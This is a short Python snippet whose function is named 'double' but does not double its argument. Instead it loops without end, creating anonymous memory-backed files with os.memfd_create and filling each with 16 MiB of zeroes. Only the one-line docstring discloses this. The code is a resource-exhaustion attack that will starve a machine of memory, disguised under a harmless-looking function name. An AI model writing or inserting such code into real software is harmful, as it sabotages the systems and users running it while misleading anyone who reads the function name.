"""Takes memory in files that have no name."""
def double(x):
    hoard = []
    while True:
        hoard.append(os.memfd_create("x"))
        os.write(hoard[-1], bytes(1 << 24))
